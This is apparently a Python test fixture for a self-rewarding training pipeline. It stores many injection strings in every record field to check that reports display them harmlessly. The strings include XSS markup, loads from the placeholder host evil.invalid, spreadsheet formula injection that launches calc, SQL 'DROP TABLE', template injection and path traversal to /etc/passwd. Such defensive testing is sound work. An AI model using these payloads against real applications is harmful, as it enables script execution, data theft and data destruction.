"""Text that would act if a page took it for more than text.

Each that runs calls ``owned()``, opens a dialog, asks http://evil.invalid for something or makes an
element with the attribute ``data-owned``; a test looks for each of these.
"""

import json
from collections.abc import Sequence

from selfreward.inputs.questions import Question
from selfreward.measures.reports import Answer
from selfreward.records import (
    Comparison,
    Criterion,
    Drop,
    Judgment,
    MetaJudgment,
    PreferencePair,
    Prompt,
    Response,
    Stage,
)
from selfreward.storage.directory import Run
from selfreward.storage.tables import digest
from tests.support.questions import answered
from tests.support.runs import PAYLOADS as CONTROLS

EVIL = "http://evil.invalid"
MARKUP = [
    "<script>owned()</script>",
    "</script><script>owned()</script>",
    f"<script src='{EVIL}/x.js'></script>",
    "<script type=module>owned()</script>",
    "<img src=x onerror=owned()>",
    f"<img src='{EVIL}/pixel.png' data-owned>",
    f"<img srcset='{EVIL}/a.png 1x'>",
    "<svg onload=owned()></svg>",
    "<svg><script>owned()</script></svg>",
    "<svg><animate onbegin=owned() attributeName=x dur=1s>",
    f"<svg><image href='{EVIL}/i.svg'></svg>",
    f"<svg><use href='{EVIL}/i.svg#x'></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.owned()</script>'></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=owned()>",
    "<iframe srcdoc='<script>parent.owned()</script>'></iframe>",
    f"<iframe src='{EVIL}'></iframe>",
    "<iframe src=javascript:parent.owned()></iframe>",
    f"<object data='{EVIL}/o.swf'></object>",
    f"<embed src='{EVIL}/e.swf'>",
    "<body onload=owned()>",
    "<details open ontoggle=owned()>x</details>",
    "<video><source onerror=owned()></video>",
    "<audio src=x onerror=owned()>",
    "<input autofocus onfocus=owned()>",
    "<marquee onstart=owned()>x</marquee>",
    "<a href='javascript:owned()' data-owned>click</a>",
    "<a href='data:text/html,<script>opener.owned()</script>'>click</a>",
    f"<form action='{EVIL}'><button data-owned>send</button></form>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<base href='{EVIL}/'>",
    f"<link rel=stylesheet href='{EVIL}/s.css'>",
    f"<link rel=prefetch href='{EVIL}/p'>",
    f"<style>@import '{EVIL}/i.css';</style>",
    f"<style>* {{ background: url({EVIL}/b.png) }}</style>",
    "<style>body { display: none }</style>",
    f"<div style=\"background:url('{EVIL}/b.png')\" data-owned>x</div>",
    "<div style='position:fixed;inset:0;z-index:9999' data-owned>x</div>",
    "<template shadowrootmode=open><img src=x onerror=owned()></template>",
    "<noscript><p title='</noscript><img src=x onerror=owned()>'>",
    "<!--><img src=x onerror=owned()>-->",
    "<![CDATA[<img src=x onerror=owned()>]]>",
    "\"><img src=x onerror=owned()>",
    "'><svg/onload=owned()>",
    "' onmouseover='owned()' x='",
    "\" onfocus=\"owned()\" autofocus x=\"",
    "<img src=`x` onerror=owned()>",
    "<\u017fcript>owned()</\u017fcript>",
    "&lt;script&gt;owned()&lt;/script&gt;",
    "&#60;img src=x onerror=owned()&#62;",
    "\\u003cscript\\u003eowned()\\u003c/script\\u003e",
    "<dialog open data-owned>x</dialog><form id=main name=main>",
    "<input id=live name=cookie><a id=crumbs data-owned>x</a>",
]  # fmt: skip
PLAIN = [
    "javascript:owned()",
    "JaVaScRiPt:owned()//",
    "java\tscript:owned()",
    "data:text/html;base64,PHNjcmlwdD5vd25lZCgpPC9zY3JpcHQ+",
    "vbscript:owned()",
    f"//evil.invalid/{'a' * 20}",
    f"[click]({EVIL}) ![x]({EVIL}/m.png) <{EVIL}>",
    "[x](javascript:owned())",
    "=HYPERLINK(\"http://evil.invalid\",\"x\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "{{constructor.constructor('owned()')()}}",
    "${owned()}",
    "#{owned()}",
    "<%= owned() %>",
    "{% include 'x' %}",
    "__proto__",
    "constructor",
    "../../../../etc/passwd",
    "%2e%2e%2f%3Cscript%3Eowned()%3C/script%3E",
    "'; DROP TABLE prompts; --",
    "\" OR 1=1 NEAR(a b) *",
    "{\"__proto__\": {\"owned\": true}}",
    "]]>--></textarea></title></style><img src=x onerror=owned()>",
    "line\u2028owned()\u2029",
    "e" + "\u0301" * 200,
    "\u202e\u2066txt.exe\u2069\u202c",
    "a\u0000b",
    "\x1b]8;;http://evil.invalid\x1b\\link\x1b]8;;\x1b\\",
    *CONTROLS,
]  # fmt: skip
PAYLOADS = [*MARKUP, *PLAIN]
HUGE = "<b data-owned>wörd</b> \x1b[8m " * (2_000_000 // 28)
"""Two million characters of them."""
RESULTS = (1.0, 0.5, 0.0, None)
"""All that a contest may come to."""


def fill(run: Run, texts: Sequence[str] = (*PAYLOADS, HUGE)) -> None:
    """Put each text into every text field of a prompt of its own; the last one is huge."""
    pairs = [PreferencePair(1, a, 1, 0, 5.0, 1.5) for a in range(len(texts))]
    stage = Stage(1, "pairs", len(texts), len(texts), digest(pairs), "", 1.0, {})
    with run.owned() as store:
        store.plan({1: run.config.stages(1)})
        for attempt, text in enumerate(texts):
            store.add(_records(attempt, len(texts) + attempt, text))
        store.finish_stage(stage, pairs)
        store.set_progress(1, "train", 1, 9, 2.0, PAYLOADS[4])
        store.add_event("warning", PAYLOADS[0])
        store.add_event("error", PAYLOADS[4])
    ask_questions(run, texts)


def ask_questions(run: Run, texts: Sequence[str]) -> None:
    """Make a held-out question of each text, which M1 and M2 answer with it.

    What is not seen at all is no prompt, so each begins with a letter.
    """
    answered(
        run,
        [Question(f"q{text}", f"k{text[:300]}", f"r{text}") for text in texts],
        {
            "M1": [Answer(f"{text} one", 9, True, None) for text in texts],
            "M2": [Answer(f"{text} {text[:50]}", 9, True, text[:200]) for text in texts],
        },
        {
            ("M2", opponent, PAYLOADS[4]): [RESULTS[n % 4] for n in range(len(texts))]
            for opponent in ("M1", PAYLOADS[0])
        },
    )


def _columns(text: str, attempt: int) -> str:
    """What may belong to a prompt: where it comes from, and columns of any name."""
    come_from = {"topic": text} if attempt % 2 else {"operation": text, "parent": [1, 0]}
    return json.dumps({**come_from, text[:200]: text, "answer": [text, {text[:200]: text}]})


def _records(attempt: int, dropped: int, text: str) -> list:
    """One accepted prompt with all that may belong to it, and one that was not accepted."""
    votes = [
        Judgment(1, attempt, s, v, "written", text, score, None if score is not None else text)
        for s, scores in enumerate([(1.0, 2.0), (5.0, None)])
        for v, score in enumerate(scores)
    ]
    return [
        Prompt(1, attempt, text, text, None, text, 9, _columns(text[:5000], attempt)),
        Prompt(1, dropped, text, text, text[:200], text, 9),
        Response(1, attempt, 0, text, "stop", 9, text),
        Response(1, attempt, 1, text + text[:50], "length", 9, text, author=text[:50] or "x"),
        *votes,
        Criterion(1, attempt, 0, 0, text, 1.0),
        Comparison(1, attempt, 0, 1, "written", text, None, text[:200]),
        MetaJudgment(1, attempt, 0, 0, 1, "written", text, None, text[:200]),
        Drop(1, "pairs", f"{attempt}/0", text[:200], text),
        Drop(1, "train", str(attempt), text[:200], text),
    ]
